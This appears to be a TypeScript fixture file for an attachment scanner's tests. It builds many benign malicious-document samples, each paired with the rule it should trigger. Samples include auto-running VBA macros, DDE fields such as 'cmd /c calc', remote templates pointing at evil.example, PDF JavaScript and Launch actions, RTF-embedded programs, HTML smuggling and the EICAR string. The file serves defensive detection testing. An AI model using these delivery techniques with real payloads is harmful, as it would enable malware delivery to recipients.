/** Documents that act by themselves, one for each way, made here: none of them does any harm. */

import { deflateSync } from 'node:zlib'
import CFB from 'cfb'
import { zipSync } from 'fflate'

export const EICAR = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
)

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')

/** MS-OVBA 2.4.1 with nothing but literals. */
function packVba(source: string): Buffer {
  const chunks: Buffer[] = [Buffer.of(1)]
  for (let at = 0; at < source.length; at += 3_600) {
    const text = bytes(source.slice(at, at + 3_600))
    const parts: Buffer[] = []
    for (let from = 0; from < text.length; from += 8)
      parts.push(Buffer.of(0), text.subarray(from, from + 8))
    const body = Buffer.concat(parts)
    const head = Buffer.alloc(2)
    head.writeUInt16LE(0xb000 | (body.length - 1))
    chunks.push(head, body)
  }
  return Buffer.concat(chunks)
}

function record(id: number, data: Buffer): Buffer {
  const head = Buffer.alloc(6)
  head.writeUInt16LE(id)
  head.writeUInt32LE(data.length, 2)
  return Buffer.concat([head, data])
}

export function compound(streams: Readonly<Record<string, Uint8Array>>): Buffer {
  const file = CFB.utils.cfb_new()
  for (const [path, content] of Object.entries(streams))
    CFB.utils.cfb_add(file, `/${path}`, content)
  CFB.utils.cfb_del(file, '/\u0001Sh33tJ5')
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Uint8Array)
}

export type Macro = { readonly source: string; readonly compiled?: string }

/** Streams of a project below `folder`. */
export function macros({ source, compiled = '' }: Macro, folder = ''): Record<string, Buffer> {
  const cache = Buffer.alloc(800, 0x11)
  const offset = Buffer.alloc(4)
  offset.writeUInt32LE(cache.length)
  const dir = Buffer.concat([
    record(0x0f, Buffer.of(1, 0)),
    record(0x19, bytes('Module1')),
    record(0x1a, bytes('Module1')),
    record(0x32, Buffer.from('Module1', 'utf16le')),
    record(0x31, offset),
  ])
  return {
    [`${folder}VBA/dir`]: packVba(dir.toString('latin1')),
    [`${folder}VBA/_VBA_PROJECT`]: Buffer.concat([
      Buffer.from('cc61ffff', 'hex'),
      bytes(compiled),
      Buffer.alloc(64),
    ]),
    [`${folder}VBA/Module1`]: Buffer.concat([cache, source === '' ? Buffer.of() : packVba(source)]),
    [`${folder}PROJECT`]: bytes(
      'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n',
    ),
  }
}

const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'

export function docx(parts: Readonly<Record<string, string | Uint8Array>>): Buffer {
  const files: Record<string, Uint8Array> = { '[Content_Types].xml': bytes(TYPES) }
  const all = {
    'word/document.xml': '<w:document><w:body><w:p>Dear all</w:p></w:body></w:document>',
    ...parts,
  }
  for (const [name, part] of Object.entries(all))
    files[name] = typeof part === 'string' ? Buffer.from(part) : part
  return Buffer.from(zipSync(files))
}

export function relations(kind: string, target: string): string {
  return `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
}

/** As the packager of Windows wraps a file. */
function packaged(name: string, content: Uint8Array, sized = true): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(content.length)
  const path = bytes(`C:\\${name}\0`)
  const length = Buffer.alloc(4)
  length.writeUInt32LE(path.length)
  const body = Buffer.concat([
    Buffer.of(2, 0),
    bytes(`${name}\0`),
    path,
    Buffer.of(0, 0, 3, 0),
    length,
    path,
    size,
    content,
  ])
  const whole = Buffer.alloc(4)
  whole.writeUInt32LE(body.length)
  return sized ? Buffer.concat([whole, body]) : body
}

/** Objects by number; no table of places, as of a file that was damaged and that readers mend. */
export function pdf(
  objects: readonly (string | readonly [string, Uint8Array])[],
  catalog = '',
): Buffer {
  const parts: Buffer[] = [bytes('%PDF-1.7\n')]
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>',
    ...objects,
  ]
  for (const [index, object] of all.entries()) {
    if (typeof object === 'string') parts.push(bytes(`${index + 1} 0 obj\n${object}\nendobj\n`))
    else {
      const [dictionary, content] = object
      parts.push(
        bytes(`${index + 1} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`),
        Buffer.from(content),
        bytes('\nendstream\nendobj\n'),
      )
    }
  }
  parts.push(bytes('trailer\n<< /Root 1 0 R >>\n%%EOF\n'))
  return Buffer.concat(parts)
}

const flate = (text: string | Uint8Array): Buffer =>
  deflateSync(typeof text === 'string' ? bytes(text) : text)

export const PROGRAM = Buffer.concat([bytes('MZ\x90\0\x03\0\0\0'), Buffer.alloc(500)])

function shortcut(): Buffer {
  const head = Buffer.alloc(76)
  head.writeUInt32LE(0x4c, 0)
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(head, 4)
  head.writeUInt32LE(0x20 | 0x80, 20)
  const words = 'powershell -enc AAAA'
  const size = Buffer.alloc(2)
  size.writeUInt16LE(words.length)
  return Buffer.concat([head, size, Buffer.from(words, 'utf16le')])
}

function oneNote(...files: readonly Uint8Array[]): Buffer {
  const parts: Buffer[] = [
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(1_000),
  ]
  for (const file of files) {
    const head = Buffer.alloc(36)
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
    head.writeBigUInt64LE(BigInt(file.length), 16)
    parts.push(head, Buffer.from(file), Buffer.alloc(40))
  }
  return Buffer.concat(parts)
}

/** BIFF8: a workbook with a macro sheet and a name that runs. */
export function macroSheet(): Buffer {
  const biff = (id: number, data: Buffer): Buffer => {
    const head = Buffer.alloc(4)
    head.writeUInt16LE(id)
    head.writeUInt16LE(data.length, 2)
    return Buffer.concat([head, data])
  }
  const name = Buffer.alloc(20)
  name.writeUInt16LE(0x21, 0)
  name[3] = 1
  name[15] = 1
  return Buffer.concat([
    biff(0x809, Buffer.alloc(16)),
    biff(0x85, Buffer.concat([Buffer.alloc(4), Buffer.of(1, 1, 6, 0), bytes('Macro1')])),
    biff(0x18, name),
    biff(0x0a, Buffer.of()),
    Buffer.alloc(5_000),
  ])
}

const AUTO =
  'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  x = Shell("calc.exe", 1)\r\nEnd Sub\r\n'
const TAME = 'Attribute VB_Name = "Module1"\r\nSub SortRows()\r\n  Range("A1").Sort\r\nEnd Sub\r\n'
const rtfHex = (content: Buffer): string => content.toString('hex').replace(/.{64}/g, '$&\r\n')
const smuggled = Buffer.from(zipSync({ 'a.exe': PROGRAM }))

/** An attachment, and the rule that must be found in it. */
export type Sample = { readonly name: string; readonly content: Buffer; readonly rule: string }

const s = (name: string, content: Buffer | string, rule: string): Sample => ({
  name,
  content: typeof content === 'string' ? Buffer.from(content) : content,
  rule,
})

export const HOSTILE: Readonly<Record<string, Sample>> = {
  'macros of Word that run': s(
    'a.docm',
    docx({ 'word/vbaProject.bin': compound(macros({ source: AUTO })) }),
    'OFFICE_MACROS_RUN',
  ),
  'macros of old Word that run': s(
    'a.doc',
    compound({
      WordDocument: Buffer.alloc(5_000, 1).fill(0, 0, 64),
      ...macros({ source: AUTO }, 'Macros/'),
    }),
    'OFFICE_MACROS_RUN',
  ),
  'macros of old Excel that run': s(
    'a.xls',
    compound({
      Workbook: Buffer.alloc(5_000),
      ...macros({ source: AUTO.replace('AutoOpen', 'Workbook_Open') }, '_VBA_PROJECT_CUR/'),
    }),
    'OFFICE_MACROS_RUN',
  ),
  'macros that reach for the machine': s(
    'a.docm',
    docx({ 'word/vbaProject.bin': compound(macros({ source: AUTO })) }),
    'OFFICE_MACROS_HOSTILE',
  ),
  'macros without a start of their own': s(
    'a.xlsm',
    docx({ 'xl/vbaProject.bin': compound(macros({ source: TAME })) }),
    'OFFICE_MACROS',
  ),
  'macros under another name': s(
    'a.docx',
    docx({ 'word/media/image1.png': compound(macros({ source: AUTO })) }),
    'OFFICE_MACROS_RUN',
  ),
  'macros whose source was wiped': s(
    'a.doc',
    compound({
      WordDocument: Buffer.alloc(5_000),
      ...macros({ source: '', compiled: 'Words' }, 'Macros/'),
    }),
    'OFFICE_MACROS_HIDDEN',
  ),
  'macros whose source was replaced': s(
    'a.doc',
    compound({
      WordDocument: Buffer.alloc(5_000),
      ...macros({ source: TAME, compiled: 'x AutoOpen WScript.Shell y' }, 'Macros/'),
    }),
    'OFFICE_MACROS_HIDDEN',
  ),
  'a macro sheet': s('a.xls', compound({ Workbook: macroSheet() }), 'OFFICE_MACRO_SHEET'),
  'a macro sheet in a zip': s(
    'a.xlsm',
    docx({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
      'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>',
    }),
    'OFFICE_MACRO_SHEET',
  ),
  'a field that starts a program': s(
    'a.docx',
    docx({
      'word/document.xml':
        '<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:document>',
    }),
    'OFFICE_DDE',
  ),
  'a cell that starts a program': s(
    'a.csv',
    'Name,Sum\r\n"a",=cmd|\'/c calc\'!A0\r\n',
    'OFFICE_DDE',
  ),
  'a link of Excel to a program': s(
    'a.xlsx',
    docx({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    'OFFICE_DDE',
  ),
  'a template from the web': s(
    'a.docx',
    docx({
      'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/t.dotm'),
    }),
    'OFFICE_REMOTE_TEMPLATE',
  ),
  'a template from the web, hidden by entities': s(
    'a.docx',
    docx({
      'word/_rels/settings.xml.rels': relations(
        'attachedTemplate',
        '&#x68;ttps://evil.example/t.dotm',
      ).replaceAll('"', "'"),
    }),
    'OFFICE_REMOTE_TEMPLATE',
  ),
  'an object from the web': s(
    'a.docx',
    docx({
      'word/_rels/document.xml.rels': relations('oleObject', 'https://evil.example/a.html!'),
    }),
    'OFFICE_REMOTE_OBJECT',
  ),
  'a frame from the web': s(
    'a.docx',
    docx({ 'word/_rels/webSettings.xml.rels': relations('frame', 'http://evil.example/') }),
    'OFFICE_REMOTE_OBJECT',
  ),
  'a program in a document': s(
    'a.docx',
    docx({
      'word/embeddings/oleObject1.bin': compound({
        '\u0001Ole10Native': packaged('run.exe', PROGRAM),
      }),
    }),
    'BAD_ATTACHMENT_NAME',
  ),
  'entities in a document': s(
    'a.docx',
    docx({
      'word/document.xml':
        '<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><w:document>&c;</w:document>',
    }),
    'OFFICE_DTD',
  ),
  'a locked document': s(
    'a.docx',
    compound({ EncryptedPackage: Buffer.alloc(6_000, 7), EncryptionInfo: Buffer.alloc(200) }),
    'DOCUMENT_ENCRYPTED',
  ),
  'a locked workbook': s(
    'a.xls',
    compound({
      Workbook: Buffer.concat([
        Buffer.from('0908040000060500', 'hex'),
        Buffer.from('2f00020001000000', 'hex'),
        Buffer.alloc(5_000),
      ]),
    }),
    'DOCUMENT_ENCRYPTED',
  ),
  'a stream in a circle': s('a.doc', circle(), 'DOCUMENT_UNREADABLE'),
  'an equation in rich text': s(
    'a.rtf',
    `{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000 0b000000 ${bytes('Equation.3\0').toString('hex')} 00}}}`,
    'OFFICE_OBJECT',
  ),
  'an object that updates itself': s(
    'a.doc',
    `{\\rtf1{\\object\\objupdate{\\*\\objdata 01050000}}}`,
    'RTF_OBJECT_UPDATES',
  ),
  'a program in rich text': s(
    'a.rtf',
    `{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000\r\n080000005061636b616765{\\*\\x y}00\r\n0000000000000000\r\n00020000\r\n${rtfHex(packaged('run.exe', PROGRAM, false))}}}}`,
    'BAD_ATTACHMENT_NAME',
  ),
  'a compound file in rich text': s(
    'a.rtf',
    `{\\rtf1{\\object{\\*\\objdata 01050000${rtfHex(compound({ '\u0001Ole10Native': packaged('run.exe', PROGRAM) }))}}}}`,
    'BAD_ATTACHMENT_NAME',
  ),
  'a template in rich text': s(
    'a.rtf',
    `{\\rtf1{\\*\\template http://evil.example/t.dotm}}`,
    'OFFICE_REMOTE_TEMPLATE',
  ),
  'a script in a PDF': s(
    'a.pdf',
    pdf(['<< /S /JavaScript /JS (app.alert\\(1\\);) >>'], '/OpenAction 4 0 R'),
    'PDF_SCRIPT_RUNS',
  ),
  'a script in a PDF, its name in codes': s(
    'a.pdf',
    pdf(
      ['<< /S /J#61vaScript /J#53 <6170702e616c6572742831293b> >>'],
      '/OpenAction << /S /J#61vaScript /J#53 (x) >>',
    ),
    'PDF_SCRIPT_RUNS',
  ),
  'a script in packed objects': s(
    'a.pdf',
    pdf([
      [
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
        flate('5 0 << /S /JavaScript /JS (this.exportDataObject({cName:"a",nLaunch:2}\\);) >>'),
      ],
    ]),
    'PDF_SCRIPT_HOSTILE',
  ),
  'a script in a stream': s(
    'a.pdf',
    pdf([
      '<< /S /JavaScript /JS 5 0 R >>',
      [
        '/Filter [/ASCIIHexDecode /FlateDecode]',
        bytes(`${flate('eval(unescape("%u9090"))').toString('hex')}>`),
      ],
    ]),
    'PDF_SCRIPT_HOSTILE',
  ),
  'a PDF that starts a program': s(
    'a.pdf',
    pdf(['<< /S /Launch /Win << /F (cmd.exe) >> >>'], '/OpenAction 4 0 R'),
    'PDF_LAUNCHES',
  ),
  'a PDF that reaches for a share': s(
    'a.pdf',
    pdf(['<< /S /GoToE /F (\\\\\\\\203.0.113.9\\\\x) /D [0 /Fit] >>']),
    'PDF_REMOTE',
  ),
  'a program in a PDF': s(
    'a.pdf',
    pdf([['/Type /EmbeddedFile /Filter /FlateDecode', flate(PROGRAM)]]),
    'BAD_ATTACHMENT_TYPE',
  ),
  'the test virus in a stream of a PDF': s(
    'a.pdf',
    pdf([['/Filter /FlateDecode', flate(EICAR)]]),
    'EICAR',
  ),
  'the test virus in a file of a PDF': s(
    'a.pdf',
    pdf([['/Type /EmbeddedFile /Filter /FlateDecode', flate(zipSync({ 'e.txt': EICAR }))]]),
    'EICAR',
  ),
  'the test virus in a document with macros': s(
    'a.docm',
    docx({ 'word/embeddings/e.bin': compound({ '\u0001Ole10Native': packaged('e.txt', EICAR) }) }),
    'EICAR',
  ),
  'a PDF that is locked': s(
    'a.pdf',
    pdf(['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'], '/Encrypt 4 0 R'),
    'DOCUMENT_ENCRYPTED',
  ),
  'a program in a OneNote section': s('a.one', oneNote(PROGRAM), 'BAD_ATTACHMENT_TYPE'),
  'a script in a OneNote section': s(
    'a.one',
    Buffer.concat([oneNote(bytes('@echo off\r\ncalc\r\n')), Buffer.from('open.cmd\0', 'utf16le')]),
    'ONENOTE_PROGRAM',
  ),
  'a OneNote section under another name': s(
    'a.pdf',
    oneNote(bytes('x')),
    'ATTACHMENT_TYPE_MISMATCH',
  ),
  'a shortcut': s('a.txt', shortcut(), 'LNK_TARGET'),
  'compiled help': s(
    'a.dat',
    Buffer.concat([bytes('ITSF\x03\0\0\0\x60\0\0\0'), Buffer.alloc(500)]),
    'BAD_ATTACHMENT_TYPE',
  ),
  'a page that builds a file': s(
    'a.html',
    `<html><script>var b=atob("${smuggled.toString('base64')}");var u=new Uint8Array(b.length);var f=new Blob([u]);var a=document.createElement("a");a.href=URL.createObjectURL(f);a.download="i.zip";a.click()</script></html>`,
    'PAGE_SMUGGLES',
  ),
  'a page that carries a file': s(
    'a.html',
    `<html><script>var d="${smuggled.toString('base64')}${'A'.repeat(500)}";x(d)</script></html>`,
    'PAGE_SMUGGLES',
  ),
  'a page for Internet Explorer': s(
    'a.htm',
    '<html><script>var b=new Blob([String.fromCharCode(77,90)]);navigator.msSaveOrOpenBlob(b,"a.exe")</script></html>',
    'PAGE_SMUGGLES',
  ),
  'a page with a file as a link': s(
    'a.html',
    '<html><a href="data:application/zip;base64,UEsDBA==" download="a.zip">open</a></html>',
    'PAGE_DATA_LINK',
  ),
  'a drawing with a script': s(
    'a.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    'DRAWING_SCRIPT',
  ),
  'a drawing that acts when it loads': s(
    'a.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'DRAWING_SCRIPT',
  ),
  'a saved page with a program': s(
    'a.mht',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Location: a.exe\r\n\r\n${PROGRAM.toString('base64')}\r\n--b--\r\n`,
    'BAD_ATTACHMENT_TYPE',
  ),
  'a picture that is an archive too': s(
    'a.jpg',
    Buffer.concat([
      Buffer.from('ffd8ffe000104a4649460001', 'hex'),
      Buffer.alloc(300, 9),
      zipSync({ 'a.exe': PROGRAM }),
    ]),
    'ATTACHMENT_POLYGLOT',
  ),
  'an archive that is called a picture': s(
    'a.png',
    Buffer.from(zipSync({ 'a.txt': bytes('x') })),
    'ATTACHMENT_TYPE_MISMATCH',
  ),
}

/** A directory whose chain of sectors leads back to its first. */
function circle(): Buffer {
  const file = compound({ WordDocument: Buffer.alloc(20_000) })
  const table = (file.readUInt32LE(76) + 1) * 512
  for (let at = 0; at < 512; at += 4) {
    const next = file.readUInt32LE(table + at)
    if (next < 0xffff_fff0 && next * 4 === at + 4) file.writeUInt32LE(at / 4, table + at)
  }
  return file
}
